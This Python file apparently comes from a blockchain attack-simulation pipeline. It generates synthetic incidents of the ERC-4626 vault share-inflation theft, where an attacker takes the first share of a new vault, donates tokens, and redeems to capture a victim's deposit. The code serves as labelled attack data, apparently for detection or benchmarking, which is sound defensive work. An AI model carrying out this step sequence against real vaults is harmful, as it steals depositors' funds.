"""Vault share inflation: be the first depositor, donate, let rounding take the next deposit (ERC-4626)."""

from __future__ import annotations

from pipelines.simulation.attacks.family import Family
from pipelines.simulation.attacks.incident import Incident, attacker, leave, run_steps, runner
from pipelines.simulation.compile import contract
from pipelines.simulation.engine import Account
from pipelines.simulation.founding import name
from pipelines.simulation.world import (
    DEADLINE,
    ETH,
    FOREVER,
    Part,
    Place,
    Send,
    Session,
    Tag,
    Token,
    World,
    allow,
    obtain,
    send,
    someone,
    step,
)


def vault_inflation(world: World, incident: Incident) -> Session:
    """Inflate the share price of a young vault just before somebody else's first deposit."""
    token: Token = world.pick([t for t in world.tokens[:8] if t.kind != "fee_token"])
    place = yield from _young_vault(world, token)
    ether = min(max(world.amount(9.0, 0.5), 3.0), 30.0)
    whole = world.chance(0.5)
    cost = ether * (1.05 if whole else 0.55)
    who = yield from attacker(world, incident, cost * 1.2 + 0.2)
    incident.assets.append(token)
    incident.variant.append("takes-all" if whole else "takes-part")
    yield from _buy(world, incident, who, token, cost * 1.15)
    victim = yield from someone(world, ether * 1.1)
    amount = yield from obtain(world, victim, token, ether)
    yield from allow(world, victim, token, place.address, FOREVER)
    gift = min(amount + 1 if whole else amount // 2 + 1, world.held(token, who.address) * 99 // 100)
    holder = who.address
    if world.chance(0.4):
        holder = yield from _through_executor(world, incident, who, place, gift)
    else:
        yield incident.call("prep", who, "token", token.address, "approve", place.address, FOREVER)
        yield incident.call("prep", who, "vault", place.address, "deposit", 1, who.address)
        yield incident.call("exploit", who, "token", token.address, "transfer", place.address, gift)
    yield send(victim, "vault", place.address, "deposit", amount, victim.address, tag=Tag(kind="vault"))
    call = ("redeem", 1, holder, holder)
    if holder is who.address:
        yield incident.call("exploit", who, "vault", place.address, *call)
    else:
        data = contract("vault").data(*call)
        steps = [(place.address, 0, data)]
        yield incident.call("exploit", who, "executor", holder, "run", steps)
    world.add(place)
    incident.finish()
    yield from leave(world, incident, who)


def _young_vault(world: World, token: Token) -> Part:
    """Let a team open a vault that nobody else has found yet."""
    maker = yield from someone(world, 0.3, fresh=0.5)
    title = name(world)
    code = contract("vault").create(token.address, title, f"v{title[:4].upper()}")
    receipt = yield Send(maker, None, code, tag=Tag(kind="deployment"))
    return Place("vault", receipt.made, maker, (token,))


def _buy(world: World, incident: Incident, who: Account, token: Token, ether: float) -> Part:
    wei = int(ether * ETH)
    if token is world.weth:
        yield incident.call("prep", who, "weth", token.address, "deposit", value=wei)
        return
    path = [world.weth.address, token.address]
    call = ("swapExactETHForTokens", 1, path, who.address, DEADLINE)
    yield Send(who, world.the("router").address, contract("router").data(*call), wei, incident.tag("prep"))


def _through_executor(world: World, incident: Incident, who: Account, place: Place, gift: int) -> Part:
    """Deposit one unit and donate in one transaction of an executor; return its address."""
    tool = yield from runner(world, incident, who)
    incident.variant.append("executor")
    token = place.tokens[0].address
    held = world.held(place.tokens[0], who.address)
    yield incident.call("prep", who, "token", token, "transfer", tool.address, held)
    steps = [
        step("token", token, "approve", place.address, FOREVER),
        step("vault", place.address, "deposit", 1, tool.address),
        step("token", token, "transfer", place.address, gift),
    ]
    yield from run_steps(world, incident, who, tool, steps)
    return tool.address


FAMILIES = (
    Family(
        name="vault_inflation",
        tier="structural",
        split="dev",
        modelled_on="the ERC-4626 first-depositor attacks (2022-23)",
        about="Own the only share of a young vault, donate to it, let rounding take the next deposit.",
        run=vault_inflation,
    ),
)
